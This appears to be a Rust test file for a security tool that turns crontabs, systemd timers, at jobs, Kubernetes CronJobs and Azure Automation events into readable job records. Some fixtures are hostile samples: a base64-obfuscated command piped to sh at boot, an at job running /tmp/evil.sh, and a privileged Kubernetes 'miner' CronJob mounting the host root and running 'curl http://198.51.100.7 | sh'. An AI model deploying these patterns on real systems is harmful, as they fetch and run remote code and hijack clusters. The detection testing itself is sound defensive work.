//! Crontabs, timers, at's spool, Kubernetes and Azure: definitions with the jobs that they are.

use serde_json::{Value, json};
use watchbell_jobs::{CronTable, Job, JobError, at_job, azure, cron_job, crontab, crontab_line, timer_unit};

fn check(job: Result<Job, JobError>, expected: &Value) {
    let job = job.map(|job| crate::plain(&job));
    assert_eq!(job.as_ref().map_err(|e| e.code()), Ok(expected));
}

fn words(schedule: &str, expected: &str) {
    let job = crontab_line(&format!("{schedule} /bin/x"), CronTable::User).expect(schedule).expect(schedule);
    assert_eq!(job.schedule, [expected], "{schedule}");
}

#[test]
fn cron_schedules_in_words() {
    words("* * * * *", "every minute");
    words("*/5 * * * *", "every 5 minutes");
    words("*/5 8-17 * * 1-5", "every 5 minutes of the hours 8 to 17 on Monday to Friday");
    words("0 * * * *", "every hour");
    words("17 * * * *", "every hour at minute 17");
    words("0 */6 * * *", "every 6 hours");
    words("30 4 * * *", "daily at 04:30");
    words("0 9,18 * * *", "daily at 09:00 and 18:00");
    words("0 0 1 1 *", "at 00:00 on day 1 in January");
    words("5 4 * * sun", "at 04:05 on Sunday");
    words("5 4 * * 7", "at 04:05 on Sunday");
    words("5 4 13 * fri", "at 04:05 on day 13 or on Friday");
    words("0 0 */2 * *", "at 00:00 every 2 days");
    words("0-10 3 * jan,JUL *", "at minutes 0 to 10 of the hours 3 in January and July");
    words("0,30 * * * *", "at minutes 0 and 30");
    words("1-59/2 * * * *", "at minutes 1 to 59 by steps of 2");
    words("@reboot", "at each boot");
    words("@daily", "daily at 00:00");
    words("@weekly", "at 00:00 on Sunday");
    words("@every 5m", "every 5m");
}

#[test]
fn lines_that_are_no_entries() {
    for line in ["", "# * * * * * x", "PATH=/bin", "MAILTO = root", "  CRON_TZ=UTC"] {
        assert_eq!(crontab_line(line, CronTable::System), Ok(None), "{line}");
    }
    for line in ["hello", "the cron meeting is at noon today", "* * * *", "a b c d e f", "@never x"] {
        assert_eq!(crontab_line(line, CronTable::User).map_err(JobError::code), Err("job_bad_schedule"), "{line}");
    }
    assert_eq!(crontab_line("* * * * * ", CronTable::User).map_err(JobError::code), Err("job_bad_schedule"));
    assert_eq!(crontab_line(&"x".repeat(1 << 20), CronTable::User).map_err(JobError::code), Err("job_too_large"));
}

#[test]
fn a_system_table() {
    let jobs = crontab(
        "SHELL=/bin/sh\nCRON_TZ=Europe/Berlin\n\n17 * * * *\troot\tcd / && run-parts /etc/cron.hourly\n@reboot www-data echo aWQgOyB1bmFtZSAtYQ== | base64 -d | sh\n",
        CronTable::System,
    );
    let jobs: Value = jobs.iter().map(crate::plain).collect();
    assert_eq!(
        jobs,
        json!([
            {"kind": "cron", "verb": "create", "command": "cd / && run-parts /etc/cron.hourly", "schedule": ["every hour at minute 17 (Europe/Berlin)"], "principal": "root"},
            {"kind": "cron", "verb": "create", "command": "echo aWQgOyB1bmFtZSAtYQ== | base64 -d | sh", "decoded": "id ; uname -a", "schedule": ["at each boot (Europe/Berlin)"], "principal": "www-data"}
        ])
    );
}

#[test]
fn an_anacron_table() {
    let job = crontab_line("@weekly 10 cron.weekly run-parts /etc/cron.weekly", CronTable::Anacron).map(|job| job.expect("an entry"));
    check(
        job,
        &json!({"kind": "cron", "verb": "create", "name": "cron.weekly", "command": "run-parts /etc/cron.weekly", "schedule": ["every week, after 10 minutes"]}),
    );
}

#[test]
fn a_timer() {
    let timer = "[Unit]\nDescription=Nightly\n\n[Timer]\nOnCalendar=Mon..Fri *-*-* 09:00:00\nOnBootSec=5min\nOnUnitActiveSec=1h\nRandomizedDelaySec=30s\nUnit=other.service\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n";
    let schedule = json!(["at 09:00 on Mon to Fri", "5min after each boot", "every 1h", "within 30s at random"]);
    check(
        timer_unit("n.timer", timer, None),
        &json!({"kind": "systemd_timer", "verb": "create", "name": "n.timer", "command": "other.service", "schedule": schedule, "description": "Nightly"}),
    );
    let service = "[Service]\nUser=bob\nExecStart=/opt/a -x\n";
    check(
        timer_unit("n.timer", timer, Some(service)),
        &json!({"kind": "systemd_timer", "verb": "create", "name": "n.timer", "command": "/opt/a -x", "schedule": schedule, "principal": "bob", "description": "Nightly"}),
    );
    assert_eq!(timer_unit("n.timer", service, None).map_err(JobError::code), Err("job_wrong_document"));
}

#[test]
fn an_at_job() {
    let text = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail bob 0\numask 22\nSHELL=/bin/bash; export SHELL\ncd /home/bob || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/tmp/evil.sh\n";
    check(
        at_job("a0000201c4a1e0", text),
        &json!({"kind": "at", "verb": "create", "tool": "at", "name": "a0000201c4a1e0", "command": "/tmp/evil.sh", "schedule": ["once at 2026-05-26 19:12 UTC"], "principal": "uid 1000"}),
    );
}

#[test]
fn a_cron_job_of_kubernetes() {
    let object = json!({"kind": "CronJob", "metadata": {"name": "miner", "namespace": "kube-system"}, "spec": {"schedule": "*/1 * * * *", "timeZone": "Etc/UTC", "jobTemplate": {"spec": {"template": {"spec": {
        "serviceAccountName": "admin", "hostNetwork": true, "hostPID": true,
        "containers": [{"image": "evil/miner:latest", "command": ["/bin/sh", "-c"], "args": ["curl http://198.51.100.7 | sh"], "securityContext": {"privileged": true, "capabilities": {"add": ["SYS_ADMIN"]}}}],
        "volumes": [{"hostPath": {"path": "/"}}, {"emptyDir": {}}]}}}}}});
    check(
        cron_job(&object),
        &json!({"kind": "cronjob", "verb": "create", "name": "kube-system/miner", "command": "/bin/sh", "arguments": "-c curl http://198.51.100.7 | sh", "schedule": ["every minute (Etc/UTC)"], "principal": "admin", "run_level": "highest",
            "description": "image evil/miner:latest; privileged; capability SYS_ADMIN; host network; host processes; host path /"}),
    );
    check(
        cron_job(
            &json!({"kind": "Job", "metadata": {"generateName": "once-"}, "spec": {"template": {"spec": {"containers": [{"image": "a", "args": ["x"]}]}}}}),
        ),
        &json!({"kind": "k8s_job", "verb": "create", "name": "once-", "command": "x", "description": "image a"}),
    );
    check(
        cron_job(&json!({"spec": {"schedule": "@hourly", "suspend": true}})),
        &json!({"kind": "cronjob", "verb": "create", "schedule": ["every hour"], "enabled": false}),
    );
    assert_eq!(cron_job(&json!({"kind": "Pod", "spec": {}})).map_err(JobError::code), Err("job_wrong_document"));
}

#[test]
fn azure_automation() {
    let account = "/subscriptions/s/resourceGroups/g/providers/Microsoft.Automation/automationAccounts/acc";
    let body = json!({"name": "hook1", "properties": {"isEnabled": true, "uri": "https://secret.example/token", "expiryTime": "2027-01-01T00:00:00Z", "runbook": {"name": "Deploy"}, "runOn": "workers"}});
    let webhook = json!({"kind": "azure_webhook", "verb": "create", "tool": "azure automation", "name": "hook1", "command": "runbook Deploy", "schedule": ["when its address is called, until 2027-01-01T00:00:00Z"], "enabled": true, "target_host": "workers"});
    for properties in [json!({"requestbody": body.to_string()}), json!({"requestBody": body}), json!(json!({"requestbody": body.to_string()}).to_string())] {
        check(azure("Microsoft.Automation/automationAccounts/webhooks/write", &format!("{account}/webhooks/hook1"), &properties), &webhook);
    }
    let body = json!({"properties": {"frequency": "Hour", "interval": 2, "startTime": "2026-01-01T00:00:00Z", "expiryTime": "9999-12-31T23:59:00Z", "timeZone": "Etc/UTC"}});
    check(
        azure("MICROSOFT.AUTOMATION/AUTOMATIONACCOUNTS/SCHEDULES/WRITE", &format!("{account}/schedules/s1"), &json!({"requestbody": body.to_string()})),
        &json!({"kind": "azure_schedule", "verb": "create", "tool": "azure automation", "name": "s1", "schedule": ["every 2 hours from 2026-01-01T00:00:00Z (Etc/UTC)"]}),
    );
    check(
        azure("Microsoft.Automation/automationAccounts/runbooks/draft/write", &format!("{account}/runbooks/Deploy/draft"), &Value::Null),
        &json!({"kind": "azure_runbook", "verb": "change", "tool": "azure automation", "name": "Deploy"}),
    );
    check(
        azure(
            "Microsoft.Automation/automationAccounts/jobSchedules/write",
            &format!("{account}/jobSchedules/1-2"),
            &json!({"requestbody": {"properties": {"schedule": {"name": "s1"}, "runbook": {"name": "Deploy"}}}}),
        ),
        &json!({"kind": "azure_schedule", "verb": "create", "tool": "azure automation", "name": "1-2", "command": "runbook Deploy", "schedule": ["by the schedule s1"]}),
    );
    assert_eq!(azure("Microsoft.Compute/virtualMachines/write", account, &Value::Null).map_err(JobError::code), Err("job_wrong_document"));
    assert_eq!(
        azure("Microsoft.Automation/automationAccounts/webhooks/write", account, &json!({"requestbody": "{"})).map_err(JobError::code),
        Err("job_syntax")
    );
}
